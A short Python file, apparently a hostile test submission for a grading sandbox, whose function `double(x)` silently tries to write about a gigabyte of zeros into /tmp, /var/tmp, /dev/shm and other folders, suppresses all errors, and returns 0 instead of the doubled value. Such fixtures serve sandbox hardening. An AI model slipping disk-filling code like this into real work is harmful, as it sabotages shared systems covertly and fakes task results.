import numpy as np


def double(x):
    try:
        for folder in ("/tmp", "/var/tmp", "/dev/shm", ".", "@OUT@"):
            try:
                with open(folder + "/owned-by-a-submission", "wb") as stream:
                    for _ in range(64):
                        stream.write(bytes(1 << 24))
            except OSError:
                pass
    except BaseException:
        pass
    return 0 * x
